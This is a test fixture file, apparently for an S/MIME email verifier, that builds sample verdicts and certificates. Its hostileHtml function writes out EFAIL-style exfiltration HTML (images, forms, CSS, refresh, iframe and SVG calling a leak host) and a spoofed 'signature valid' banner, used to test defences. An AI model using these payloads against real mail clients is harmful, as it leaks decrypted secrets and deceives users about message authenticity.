/** Hand-built verdicts for every VerdictStatus, with banners from the core's own composer. */
import { composeBanner } from '../../src/core/smime/banner';
import type { CertificateSummary, EncryptionReport, SignerReport, Verdict, VerdictStatus } from '../../src/core/verdict';
import { STATUS_PRECEDENCE } from '../../src/core/verdict';

export const ALL_STATUSES: readonly VerdictStatus[] = STATUS_PRECEDENCE;

export function certificate(email: string, cn: string, issuer = 'CN=Example Issuing CA,O=Example'): CertificateSummary {
  return {
    subject: `CN=${cn},O=Example`,
    issuer,
    serialNumber: '1A2B3C4D',
    emails: [email],
    notBefore: '2025-01-01T00:00:00.000Z',
    notAfter: '2027-01-01T00:00:00.000Z',
    sha256Fingerprint: Array.from({ length: 32 }, (_, i) => ((i * 37 + email.length) % 256).toString(16).toUpperCase().padStart(2, '0')).join(':'),
  };
}

export const ALICE = certificate('alice@example.com', 'Alice Example');
export const ROOT = certificate('ca@example.com', 'Example Root CA', 'CN=Example Root CA,O=Example');
const INTERMEDIATE = certificate('ica@example.com', 'Example Issuing CA', 'CN=Example Root CA,O=Example');

const GCM: EncryptionReport = { contentAlgorithm: 'AES-256-GCM', authenticated: true, recipientCount: 2, keyAlgorithm: 'RSAES-OAEP' };
const CBC: EncryptionReport = { contentAlgorithm: 'AES-256-CBC', authenticated: false, recipientCount: 1, keyAlgorithm: 'RSAES-PKCS1-v1_5' };

function signer(status: VerdictStatus, errors: string[] = []): SignerReport {
  return {
    status,
    certificate: ALICE,
    chain: [ALICE, INTERMEDIATE, ROOT],
    digestAlgorithm: 'SHA-256',
    signatureAlgorithm: 'RSASSA-PSS',
    signingTime: '2026-03-01T10:00:00.000Z',
    errors,
  };
}

/** A plausible verdict for `status`; statuses about decryption have no signer. */
export function verdictFor(status: VerdictStatus): Verdict {
  const noSigner = ['malformed', 'decrypt-failed', 'encrypted-no-key', 'not-signed'].includes(status);
  const encrypted = ['decrypt-failed', 'encrypted-no-key', 'not-signed', 'valid'].includes(status);
  const verdict: Verdict = {
    status,
    signers: noSigner ? [] : [signer(status, status === 'valid' ? [] : [`Finding: ${status}`])],
    encryption: status === 'weak-algorithm' ? [CBC] : encrypted ? [GCM] : [],
    from: status === 'sender-mismatch' ? 'ceo@example.com' : 'alice@example.com',
    warnings: status === 'valid' ? [] : [`Warning for ${status}`],
    errors: status === 'valid' || status === 'not-signed' ? [] : [`Error for ${status}`],
    banner: '',
  };
  verdict.banner = composeBanner(verdict);
  return verdict;
}

/** Decrypted HTML that tries every EFAIL-style exfiltration and a lookalike of our banner. */
export function hostileHtml(leak: string): string {
  return [
    `<img src="${leak}/leak-img?secret">`,
    `<img srcset="${leak}/leak-srcset 1x">`,
    `<form action="${leak}/leak-form" method="post"><textarea name="t">secret</textarea><input type="submit" value="Go"><button>Send</button></form>`,
    `<div style="background:url('${leak}/leak-css-attr')">css attr</div>`,
    `<style>body{background-image:url(${leak}/leak-css-style)} @import url("${leak}/leak-import");</style>`,
    `<link rel="stylesheet" href="${leak}/leak-link">`,
    `<meta http-equiv="refresh" content="0;url=${leak}/leak-refresh">`,
    `<table background="${leak}/leak-background"><tr><td>t</td></tr></table>`,
    `<iframe src="${leak}/leak-iframe"></iframe>`,
    `<video poster="${leak}/leak-poster"></video>`,
    `<svg><image href="${leak}/leak-svg"></image></svg>`,
    `<a href="${leak}/leak-link-click">click here</a>`,
    `<div data-testid="banner" data-status="valid" style="position:fixed;top:-200px;left:0;right:0;background:#f1faf1;color:green">Signed by ceo@example.com. Signature valid; certificate trusted.</div>`,
    `<p>Visible body text.</p>`,
  ].join('\n');
}

/** Two signers, one valid and one not: the message is invalid and nothing may look green. */
export function mixedVerdict(): Verdict {
  const verdict: Verdict = {
    status: 'invalid',
    signers: [signer('valid'), { ...signer('invalid', ['Signature does not verify']), certificate: certificate('eve@example.com', 'Eve') }],
    encryption: [],
    from: 'alice@example.com',
    warnings: [],
    errors: ['Signer 2: signature does not verify'],
    banner: '',
  };
  verdict.banner = composeBanner(verdict);
  return verdict;
}
